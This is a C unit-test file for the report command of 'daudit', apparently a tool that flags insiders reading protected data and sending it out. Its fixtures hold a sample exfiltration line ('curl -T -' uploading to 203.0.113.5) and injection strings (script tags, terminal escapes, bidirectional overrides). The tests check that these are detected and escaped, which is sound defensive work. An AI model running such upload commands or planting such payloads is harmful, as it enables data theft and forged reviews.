// SPDX-License-Identifier: GPL-2.0
/* daudit report on the scenario's last day: the review a person reads. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include "scenario.h"
#include "scenario_crm.h"
#include "scenario_hostile.h"
#include "cli.h"
#include "../../userspace/daudit/report.c"
#include "../../userspace/daudit/report_fleet.c"
#include "../../userspace/daudit/report_html.c"
#include "../../userspace/daudit/incident_load.c"
#include <sys/stat.h>

static char *db, *crm, *hostile;

#define DAY "--since", "2026-11-20", "--until", "2026-11-21"

static void the_review_ranks_users_and_explains_findings(void **state)
{
	struct cli c;
	const char *m, *e;

	(void)state;
	cli_run(&c, cmd_report, "report", "--database", db, DAY, END);
	if (c.status)
		fail_msg("status %d: %s", c.status, c.err);
	m = strstr(c.out, "1. mallory (uid 1002): risk ");
	e = strstr(c.out, "2. eve (uid 1003): risk ");
	if (!m || !e || e < m)
		fail_msg("ranking wrong:\n%s", c.out);
	assert_non_null(strstr(c.out, "daudit review: 2026-11-20 00:00:00 to 2026-11-21 00:00:00 (local time)"));
	assert_non_null(strstr(c.out, "  ! sensor lost 42 records on cpu 1 between "));
	assert_non_null(strstr(c.out, " (file_read=42): totals may be low"));
	assert_non_null(strstr(c.out, "[high] read_then_egress, 50 points"));
	assert_non_null(strstr(c.out, "(last to 203.0.113.5:443/tcp) within 15 minutes, in the same login session"));
	assert_non_null(strstr(c.out, "[high] volume_spike, 40 points"));
	assert_non_null(strstr(c.out, "[medium] enumeration, 30 points"));
	assert_non_null(strstr(c.out, "read 301 distinct files"));
	assert_non_null(strstr(c.out, "/usr/bin/sqlite3 read "));
	assert_non_null(strstr(c.out, "[low] off_hours"));
	assert_non_null(strstr(c.out, "first read of dataset payroll in 30 days"));
	assert_non_null(strstr(c.out, "protected file of customers under an unprotected name: /data/customers/export/part-01.csv linked as /home/eve/notes.csv"));
	assert_non_null(strstr(c.out, "-> /media/usb0/part-01.csv"));
	assert_non_null(strstr(c.out, "curl -T - https://203.0.113.5/up (/usr/bin/curl, pid 3302, uid mallory)"));
	assert_non_null(strstr(c.out, "Users who read protected data without findings: "));
	assert_non_null(strstr(c.out, "postgres (no login)"));
	assert_non_null(strstr(c.out, "What the findings mean:\n"));
	assert_non_null(strstr(c.out, "  read_then_egress   a large read was followed shortly"));
	cli_free(&c);
}

static void json_and_csv(void **state)
{
	struct cli c;
	json_object *o, *users, *first, *findings;

	(void)state;
	cli_run(&c, cmd_report, "report", "--database", db, DAY, "--format", "json", END);
	if (c.status)
		fail_msg("status %d: %s", c.status, c.err);
	o = json_tokener_parse(c.out);
	assert_non_null(o);
	assert_true(json_object_object_get_ex(o, "users", &users));
	first = json_object_array_get_idx(users, 0);
	assert_string_equal(json_object_get_string(json_object_object_get(first, "user")), "mallory");
	assert_true(json_object_object_get_ex(first, "findings", &findings));
	assert_true(json_object_array_length(findings) >= 5);
	assert_true(json_object_array_length(json_object_object_get(
		json_object_array_get_idx(findings, 0), "evidence")) > 0);
	assert_int_equal(json_object_array_length(json_object_object_get(o, "gaps")), 1);
	json_object_put(o);
	cli_free(&c);

	cli_run(&c, cmd_report, "report", "--database", db, DAY, "--format", "csv", END);
	assert_int_equal(c.status, 0);
	assert_ptr_equal(strstr(c.out, "rank,user,uid,login,risk,rule,severity,score,dataset,first,last,bytes,count,reason\r\n"), c.out);
	assert_non_null(strstr(c.out, "\r\n1,mallory,1002,yes,"));
	cli_free(&c);
}

static void an_empty_period_says_so(void **state)
{
	struct cli c;

	(void)state;
	cli_run(&c, cmd_report, "report", "--database", db, "--since", "2026-10-01",
		"--until", "2026-10-02", END);
	assert_int_equal(c.status, 0);
	assert_non_null(strstr(c.out, "No findings in this period."));
	assert_non_null(strstr(c.out, "Sensor gaps: none"));
	cli_free(&c);
	cli_run(&c, cmd_report, "report", "--database", db, "--since", "2026-10-01",
		"--until", "2026-10-02", "--format", "html", END);
	assert_int_equal(c.status, 0);
	assert_non_null(strstr(c.out, "<p>No incidents in this period.</p>"));
	assert_null(strstr(c.out, "<svg"));
	assert_non_null(strstr(c.out, "</body></html>\n"));
	cli_free(&c);
}

static json_object *report_json(const char *path, const char *actor)
{
	json_object *o;
	struct cli c;

	if (actor)
		cli_run(&c, cmd_report, "report", "--database", path, CRM_REVIEW,
			"--actor", actor, "--format", "json", END);
	else
		cli_run(&c, cmd_report, "report", "--database", path, CRM_REVIEW,
			"--format", "json", END);
	if (c.status)
		fail_msg("status %d: %s", c.status, c.err);
	o = json_tokener_parse(c.out);
	if (!o)
		fail_msg("not JSON:\n%s", c.out);
	cli_free(&c);
	return o;
}

static const char *jstr(json_object *o, const char *key)
{
	return json_object_get_string(json_object_object_get(o, key));
}

static int has_rule(json_object *u, const char *rule)
{
	json_object *fs = json_object_object_get(u, "findings");
	size_t i;

	for (i = 0; i < json_object_array_length(fs); i++)
		if (!strcmp(jstr(json_object_array_get_idx(fs, i), "rule"), rule))
			return 1;
	return 0;
}

/*
 * The evidence of @u's volume_spike findings shows the spike: her
 * evening reads (from @hour, UTC), not the day's first look-up.
 */
static void spike_evidence_is_the_evening(json_object *u, int hour)
{
	json_object *fs = json_object_object_get(u, "findings");
	size_t i, j, n = 0;

	for (i = 0; i < json_object_array_length(fs); i++) {
		json_object *f = json_object_array_get_idx(fs, i);
		json_object *ev = json_object_object_get(f, "evidence");

		if (strcmp(jstr(f, "rule"), "volume_spike"))
			continue;
		for (j = 0; j < json_object_array_length(ev); j++) {
			const char *t = jstr(json_object_array_get_idx(ev, j), "time");
			const char *at = strchr(t, 'T');

			assert_non_null(at);
			if (atoi(at + 1) < hour)
				fail_msg("volume_spike evidence at %s, before %02d:00", t, hour);
			n++;
		}
	}
	assert_true(n > 0);
}

/*
 * The demo's question (scenario_crm.h): twenty employees use the CRM as
 * svc-crm; which of them took the customer table?  The review names
 * emp-07 and emp-13 first, with what they read, and nobody else:
 *
 *  - Their evenings are off_hours findings (an actor is a person, judged
 *    whatever off_hours_nologin says), and a table's worth of reads on a
 *    Wednesday against a week and a half of look-ups is a volume_spike.
 *  - Both had the whole table sent out for them within minutes of its
 *    reads: emp-07's pages to her own client (the data left the server
 *    for her), emp-13's also to 203.0.113.5: read_then_egress for both.
 *  - The other eighteen read a little in working hours every working
 *    day; their first reads were in the first week (first_access is not
 *    in the review), the answers to their clients are not egress, and
 *    the application is the dataset's allowlisted reader.  None has a
 *    finding, nor has svc-crm's own 08:00 check.
 */
static void the_crm_review_names_the_two_who_took_the_table(void **state)
{
	json_object *o = report_json(crm, NULL), *users, *quiet;
	unsigned int who[2];
	struct cli c;
	char a[32], want[160];
	const char *at[2];
	size_t i;

	(void)state;
	users = json_object_object_get(o, "users");
	for (i = 0; i < json_object_array_length(users); i++) {
		json_object *u = json_object_array_get_idx(users, i);
		const char *name = jstr(u, "user");
		unsigned int e = !strcmp(name, "emp-07") ? CRM_INSIDER_A :
				 !strcmp(name, "emp-13") ? CRM_INSIDER_B : 0;

		if (i >= 2 || !e) {
			fail_msg("finding for %s (rank %zu):\n%s", name, i + 1,
				 json_object_to_json_string_ext(u, JSON_C_TO_STRING_PRETTY));
			return;
		}
		who[i] = e;
		assert_true(json_object_get_boolean(json_object_object_get(u, "actor")));
		assert_int_equal(json_object_get_int64(json_object_object_get(u, "bytes")),
				 crm_review_bytes(e));
		assert_string_equal(jstr(u, "account"), "svc-crm (no login)");
		assert_string_equal(jstr(u, "app"), CRM_EXE);
		assert_true(has_rule(u, "off_hours"));
		assert_true(has_rule(u, "volume_spike"));
		assert_true(has_rule(u, "read_then_egress"));
		assert_false(has_rule(u, "first_access"));
		assert_false(has_rule(u, "unapproved_reader"));
		/* Egress left elsewhere; the answers to her client are apart. */
		assert_int_equal(json_object_get_int64(json_object_object_get(u, "egress")),
				 e == CRM_INSIDER_B ? 2 * CRM_TABLE : 0);
		assert_true(json_object_get_int64(json_object_object_get(u, "delivered")) >
			    (int64_t)(2 * CRM_TABLE));
		spike_evidence_is_the_evening(u, e == CRM_INSIDER_A ? 19 : 20);
	}
	assert_int_equal(json_object_array_length(users), 2);
	assert_int_not_equal(who[0], who[1]);
	/* Everybody else read, without a finding: 18 actors and svc-crm. */
	quiet = json_object_object_get(o, "users_without_findings");
	assert_int_equal(json_object_array_length(quiet), CRM_EMPLOYEES - 2 + 1);
	json_object_put(o);

	/* What a person reads: the two first, with their bytes and the app. */
	cli_run(&c, cmd_report, "report", "--database", crm, CRM_REVIEW, END);
	assert_int_equal(c.status, 0);
	for (i = 0; i < 2; i++) {
		snprintf(want, sizeof(want), "%zu. emp-%02u (actor via " CRM_EXE
			 " as svc-crm (no login)): risk ", i + 1, who[i]);
		at[i] = strstr(c.out, want);
		if (!at[i])
			fail_msg("no '%s' in:\n%s", want, c.out);
		snprintf(want, sizeof(want), "; read %s from 1 file or socket, egress ",
			 table_human_bytes(crm_review_bytes(who[i]), a, sizeof(a)));
		if (!strstr(at[i], want) || strstr(at[i], want) > strchr(at[i], '\n'))
			fail_msg("no '%s' in:\n%s", want, c.out);
	}
	assert_non_null(strstr(c.out, "2 users with findings"));
	assert_null(strstr(c.out, "\n3. "));
	/* Worded for actors: the application, its client, where to look. */
	assert_null(strstr(c.out, "login session"));
	if (!strstr(c.out, "of protected data for this actor, then sent "))
		fail_msg("%s", c.out);
	assert_non_null(strstr(c.out, ", delivered "));
	assert_non_null(strstr(c.out, " to the actor's own client\n"));
	assert_non_null(strstr(c.out, "  read_then_egress   for an actor: the application read a lot for the actor, then shortly sent it out"));
	assert_non_null(strstr(c.out, "far above this actor's previous"));
	/* svc-crm read too: both kinds of hint. */
	assert_non_null(strstr(c.out, "; for an actor, 'daudit user --actor ID' and 'daudit events --actor ID' ('daudit users --by actor' lists them).\n"));
	/* The quiet ones by id, their application and account said once. */
	assert_non_null(strstr(c.out, "Actors who read protected data without findings: "));
	assert_non_null(strstr(c.out, "; all through " CRM_EXE " as svc-crm (no login)\n"));
	assert_null(strstr(c.out, "emp-01 (actor via "));
	cli_free(&c);
}

/*
 * The CRM's page: the two employees who took the table are every
 * incident (emp-13's second evening is one of its own), each named as
 * the actor the application declared, with the application and its
 * account; one section each, with their day above their own band, and
 * the export's destination for emp-13.
 */
static void the_crm_page_names_the_two_actors(void **state)
{
	const char *row, *end;
	struct cli c;
	int n = 0;

	(void)state;
	cli_run(&c, cmd_report, "report", "--database", crm, CRM_REVIEW,
		"--format", "html", END);
	if (c.status)
		fail_msg("status %d: %s", c.status, c.err);
	for (row = strstr(c.out, "<tr class=\"inc\">"); row;
	     row = strstr(row + 1, "<tr class=\"inc\">")) {
		const char *a = strstr(row, "<td class=\"who\">emp-07 (actor via " CRM_EXE
				       " as svc-crm (no login))</td>");
		const char *b = strstr(row, "<td class=\"who\">emp-13 (actor via " CRM_EXE
				       " as svc-crm (no login))</td>");

		end = strstr(row, "</tr>");
		n++;
		if (!((a && a < end) || (b && b < end)))
			fail_msg("incident %d is not emp-07's or emp-13's:\n%.*s", n,
				 (int)(end - row), row);
	}
	assert_true(n >= 2);
	assert_non_null(strstr(c.out, "<td class=\"who\">emp-07 (actor via "));
	assert_non_null(strstr(c.out, "<td class=\"who\">emp-13 (actor via "));
	assert_int_equal(count_of(c.out, "<svg class=\"daily\""), 2);
	assert_true(count_of(c.out, "above the baseline band</title>") >= 2);
	assert_non_null(strstr(c.out, "<td class=\"path\">203.0.113.5"));
	assert_non_null(strstr(c.out, " (the actor&#39;s own client: delivered, not egress)</td>"));
	assert_null(strstr(c.out, "203.0.113.5:443/tcp (the actor"));
	cli_free(&c);
}

static void one_actor_s_review(void **state)
{
	json_object *o, *users;
	struct cli c;

	(void)state;
	o = report_json(crm, "emp-13");
	users = json_object_object_get(o, "users");
	assert_int_equal(json_object_array_length(users), 1);
	assert_string_equal(jstr(json_object_array_get_idx(users, 0), "user"), "emp-13");
	assert_int_equal(json_object_array_length(json_object_object_get(o, "users_without_findings")), 0);
	assert_string_equal(jstr(o, "actor"), "emp-13");
	json_object_put(o);

	cli_run(&c, cmd_report, "report", "--database", crm, CRM_REVIEW, "--actor", "emp-03", END);
	assert_int_equal(c.status, 0);
	assert_non_null(strstr(c.out, "No findings in this period for actor emp-03.\n"));
	assert_non_null(strstr(c.out, "without findings: emp-03 ("));
	assert_null(strstr(c.out, "emp-13"));
	assert_null(strstr(c.out, "emp-04"));
	assert_non_null(strstr(c.out, "'daudit user --actor emp-03'"));
	cli_free(&c);

	cli_run(&c, cmd_report, "report", "--database", crm, CRM_REVIEW, "--actor", "emp-13",
		"--format", "csv", END);
	assert_int_equal(c.status, 0);
	assert_non_null(strstr(c.out, "\r\n1,emp-13,"));
	assert_null(strstr(c.out, "emp-07"));
	cli_free(&c);

	/* An id the collector never stored: a typo, not a quiet actor. */
	cli_run(&c, cmd_report, "report", "--database", crm, "--actor", "emp-99", END);
	assert_int_equal(c.status, 1);
	assert_non_null(strstr(c.err, "report: no actor 'emp-99' in the collector's records"));
	cli_free(&c);
	/* A login user is not an actor. */
	cli_run(&c, cmd_report, "report", "--database", db, "--actor", "mallory", END);
	assert_int_equal(c.status, 1);
	cli_free(&c);
}

static void usage_errors(void **state)
{
	struct cli c;

	(void)state;
	cli_run(&c, cmd_report, "report", "--database", db, "--since", "last tuesday", END);
	assert_int_equal(c.status, 2);
	assert_non_null(strstr(c.err, "report: --since: bad time 'last tuesday'"));
	cli_free(&c);
	cli_run(&c, cmd_report, "report", "--database", "/nonexistent/x.db", END);
	assert_int_equal(c.status, 1);
	assert_non_null(strstr(c.err, "no database at /nonexistent/x.db"));
	cli_free(&c);
	cli_run(&c, cmd_report, "report", "--help", END);
	assert_int_equal(c.status, 0);
	assert_non_null(strstr(c.out, "Usage: daudit report"));
	assert_non_null(strstr(c.out, "  -a, --actor ID "));
	assert_non_null(strstr(c.out, "  -o, --output FILE "));
	assert_non_null(strstr(c.out, "  -f, --format html one self-contained page"));
	cli_free(&c);
}

/*
 * Issue 18: names chosen to forge the review (scenario_hostile.h) reach
 * the terminal escaped, in every line of it, and JSON stays valid.
 */
static void hostile_names_cannot_forge_the_review(void **state)
{
	char *longp = malloc(4 * HOSTILE_LONG_LEN), *back;
	json_object *o, *u, *f;
	struct cli c;

	(void)state;
	/* The 4,000-byte path, whole, its ESC escaped. */
	snprintf(longp, 4 * HOSTILE_LONG_LEN, "%.*s\\x1B[2J.csv\n",
		 HOSTILE_LONG_LEN - 8, hostile_long_path());
	hostile_run(&c, cmd_report, "report",
		    "report", "--database", hostile, DAY,
		    "--evidence", "0");
	hostile_assert_in(c.out, "\n2. " HOSTILE_NAME_SHOWN " (uid 1004): risk ");
	hostile_assert_in(c.out, "\n      protected file of customers under an unprotected name: "
			       HOSTILE_PATH_SHOWN " linked as " HOSTILE_LINK_SHOWN "\n");
	hostile_assert_in(c.out, "(last to " HOSTILE_DEST_SHOWN ") within 15 minutes");
	hostile_assert_in(c.out, "  egress         200 MiB  " HOSTILE_CMDLINE_SHOWN
			       " (" HOSTILE_EXE_SHOWN ", pid 3500, uid " HOSTILE_NAME_SHOWN ")  -> "
			       HOSTILE_DEST_SHOWN "\n");
	hostile_assert_in(c.out, "  " HOSTILE_PATH_SHOWN " -> " HOSTILE_LINK_SHOWN "\n");
	hostile_assert_in(c.out, longp);
	hostile_assert_in(c.out, "\n4. " HOSTILE_ACTOR_SHOWN " (actor via /opt/app/bin/app");
	cli_free(&c);

	/* CSV holds the exact bytes, quoted as RFC 4180 says (a CR inside). */
	cli_run(&c, cmd_report, "report", "--database", hostile, DAY,
		"--format", "csv", END);
	assert_int_equal(c.status, 0);
	hostile_assert_in(c.out, ",\"protected file of customers under an unprotected name: "
			       HOSTILE_PATH " linked as " HOSTILE_LINK "\"\r\n");
	cli_free(&c);

	/* JSON: valid, nothing a terminal acts on, the bytes recoverable. */
	cli_run(&c, cmd_report, "report", "--database", hostile, DAY,
		"--format", "json", END);
	assert_int_equal(c.status, 0);
	hostile_output_is_safe(c.out, "report --format json");
	o = json_tokener_parse(c.out);
	assert_non_null(o);
	u = json_object_array_get_idx(json_object_object_get(o, "users"), 1);
	back = malloc(4 * HOSTILE_LONG_LEN);
	ecs_unescape(json_object_get_string(json_object_object_get(u, "user")), back);
	assert_string_equal(back, "host\x1b[2Jile\xe2\x80\xae");
	f = json_object_array_get_idx(json_object_object_get(u, "findings"), 0);
	ecs_unescape(json_object_get_string(json_object_object_get(f, "reason")), back);
	assert_string_equal(back, "protected file of customers under an unprotected name: "
			    HOSTILE_PATH " linked as " HOSTILE_LINK);
	free(back);
	json_object_put(o);
	cli_free(&c);
	free(longp);
}

/* Issue 18 item 7: --utc says so, and shows and reads times in UTC. */
static void the_review_in_utc(void **state)
{
	struct cli c;

	(void)state;
	setenv("TZ", "JST-9", 1);
	cli_run(&c, cmd_report, "report", "--database", db, DAY, "--utc", END);
	setenv("TZ", "UTC", 1);
	if (c.status)
		fail_msg("status %d: %s", c.status, c.err);
	assert_ptr_equal(strstr(c.out, "daudit review: 2026-11-20 00:00:00 to 2026-11-21 00:00:00 (UTC)\n"), c.out);
	assert_non_null(strstr(c.out, "  ! sensor lost 42 records on cpu 1 between 2026-11-20 11:17:00 and 2026-11-20 23:15:00"));
	assert_non_null(strstr(c.out, "        2026-11-20 23:25:00  egress         900 MiB  curl -T - https://203.0.113.5/up (/usr/bin/curl, pid 3302, uid mallory)  -> 203.0.113.5:443/tcp\n"));
	assert_non_null(strstr(c.out, "        2026-11-20 23:16:00  file_read     2.00 MiB  sqlite3 -cmd '.read /tmp/dump.sql' (/usr/bin/sqlite3, pid 3301, uid mallory)  /data/payroll/2026.csv\n"));
	cli_free(&c);
}


/*
 * --format html: one page, nothing fetched and no script; the top
 * incident first with its person and score, each person's charts and
 * each incident's timeline.
 */
static void the_html_page_ranks_incidents_and_draws_people(void **state)
{
	char *path = test_db_path("report-html.html"), *file;
	const char *m, *e;
	struct stat sb;
	struct cli c;
	FILE *f;

	(void)state;
	cli_run(&c, cmd_report, "report", "--database", db, DAY, "--format", "html", END);
	if (c.status)
		fail_msg("status %d: %s", c.status, c.err);
	assert_ptr_equal(strstr(c.out, "<!DOCTYPE html>"), c.out);
	assert_non_null(strstr(c.out, "</body></html>\n"));
	assert_non_null(strstr(c.out, "content=\"default-src 'none'; style-src 'unsafe-inline'\""));
	m = strstr(c.out, "<tr class=\"inc\"><td class=\"n\">1</td><td class=\"n score high\">87 ");
	e = strstr(c.out, "<tr class=\"inc\"><td class=\"n\">2</td><td class=\"n score high\">83 ");
	if (!m || !e || e < m)
		fail_msg("ranking wrong:\n%s", c.out);
	assert_non_null(strstr(m, "<td class=\"who\">mallory (uid 1002)</td>"));
	assert_true(strstr(m, "<td class=\"who\">mallory (uid 1002)</td>") < e);
	assert_non_null(strstr(e, "<td class=\"who\">eve (uid 1003)</td>"));
	assert_non_null(strstr(c.out, "000000005ce4a210-incident-5</a>"));
	/* Per person: both charts, datasets, egress destinations. */
	assert_int_equal(count_of(c.out, "<svg class=\"daily\""), 2);
	assert_int_equal(count_of(c.out, "<svg class=\"heat\""), 2);
	assert_non_null(strstr(c.out, "above the baseline band</title>"));
	assert_non_null(strstr(c.out, "<tr><td class=\"path\">203.0.113.5:443/tcp</td><td class=\"n\">900 MiB</td>"));
	assert_non_null(strstr(c.out, "<tr><td>payroll</td><td class=\"n\">2.00 MiB</td>"));
	/* Timelines: drawn and listed, runs of reads as one line. */
	assert_int_equal(count_of(c.out, "<svg class=\"timeline\""), 2);
	assert_non_null(strstr(c.out, "read 99 files, until 2026-11-20 23:11:38 of customers"));
	assert_non_null(strstr(c.out, "102 records of evidence"));
	assert_non_null(strstr(c.out, "curl -T - https://203.0.113.5/up (/usr/bin/curl, pid 3302, uid mallory)"));
	assert_non_null(strstr(c.out, "sensor lost 42 records on cpu 1"));
	/* Self-contained: nothing to fetch, nothing to run. */
	assert_null(strstr(c.out, "<script"));
	/* No address in an attribute: an address in text (curl's command
	 * line below) is something read, not something fetched. */
	assert_null(strstr(c.out, "=\"http"));
	assert_null(strstr(c.out, "='http"));
	assert_null(strstr(c.out, "=http"));
	assert_int_equal(count_of(c.out, "href="), count_of(c.out, "href=\"#"));
	assert_null(strstr(c.out, "src="));
	assert_null(strstr(c.out, "url("));
	cli_free(&c);

	/* -o FILE: the same page, readable by its owner only. */
	unlink(path);
	cli_run(&c, cmd_report, "report", "--database", db, DAY, "-f", "html",
		"-o", path, END);
	assert_int_equal(c.status, 0);
	assert_string_equal(c.out, "");
	assert_int_equal(stat(path, &sb), 0);
	assert_int_equal(sb.st_mode & 0777, 0600);
	f = fopen(path, "r");
	assert_non_null(f);
	file = slurp(f);
	fclose(f);
	assert_non_null(strstr(file, "<td class=\"who\">mallory (uid 1002)</td>"));
	free(file);
	unlink(path);
	free(path);
	cli_free(&c);

	cli_run(&c, cmd_report, "report", "--database", db, "-f", "html", "--actor", "x", END);
	assert_int_equal(c.status, 2);
	assert_non_null(strstr(c.err, "--format html: --actor is not there yet"));
	cli_free(&c);
	cli_run(&c, cmd_report, "report", "--database", db, "-f", "xml", END);
	assert_int_equal(c.status, 2);
	cli_free(&c);
}

/*
 * Names chosen to forge the page: ESC, CR, U+202E and markup in a user
 * name, a file and a destination come out as \xHH and entities; no
 * element of theirs is opened, nothing a terminal or the bidirectional
 * algorithm acts on is left.
 */
static void hostile_names_cannot_forge_the_html_page(void **state)
{
	char *path = test_db_path("report-html-hostile");
	struct cli c;

	(void)state;
	scenario_db_of(path, T0, hostile_build, HOSTILE_NAMES ";"
		       " UPDATE names SET name = name || '<script>alert(1)</script>'"
		       " WHERE uid = 1004;"
		       " UPDATE events SET dest = dest || '\"><script>x</script>'"
		       " WHERE dest LIKE '/media/usb0/%';"
		       " UPDATE evidence SET dest = dest || '\"><script>x</script>'"
		       " WHERE dest LIKE '/media/usb0/%'");
	hostile_run(&c, cmd_report, "report --format html", "report", "--database",
		    path, DAY, "--format", "html");
	assert_null(strstr(c.out, "<script"));
	assert_null(strstr(c.out, "\xe2\x80\xae"));
	hostile_assert_in(c.out, "<td class=\"who\">" HOSTILE_NAME_SHOWN
			  "&lt;script&gt;alert(1)&lt;/script&gt; (uid 1004)</td>");
	hostile_assert_in(c.out, "<td class=\"path\">" HOSTILE_DEST_SHOWN
			  "&quot;&gt;&lt;script&gt;x&lt;/script&gt;</td>");
	hostile_assert_in(c.out, HOSTILE_PATH_SHOWN);
	hostile_assert_in(c.out, HOSTILE_EXE_SHOWN);
	hostile_assert_in(c.out, HOSTILE_LINK_SHOWN);
	cli_free(&c);
	hostile_db_free(path);
}

static int setup(void **state)
{
	(void)state;
	db = test_db_path("report");
	scenario_db(db, T0);
	crm = test_db_path("report-crm");
	crm_db(crm, T0);
	hostile = hostile_db("report-hostile");
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	test_db_remove(db);
	free(db);
	test_db_remove(crm);
	free(crm);
	hostile_db_free(hostile);
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(the_review_ranks_users_and_explains_findings),
		cmocka_unit_test(json_and_csv),
		cmocka_unit_test(an_empty_period_says_so),
		cmocka_unit_test(the_crm_review_names_the_two_who_took_the_table),
		cmocka_unit_test(one_actor_s_review),
		cmocka_unit_test(usage_errors),
		cmocka_unit_test(hostile_names_cannot_forge_the_review),
		cmocka_unit_test(the_review_in_utc),
		cmocka_unit_test(the_html_page_ranks_incidents_and_draws_people),
		cmocka_unit_test(hostile_names_cannot_forge_the_html_page),
		cmocka_unit_test(the_crm_page_names_the_two_actors),
	};

	setenv("TZ", "UTC", 1);
	tzset();
	util_progname = "daudit";
	return cmocka_run_group_tests_name("verb_report", tests, setup, teardown);
}
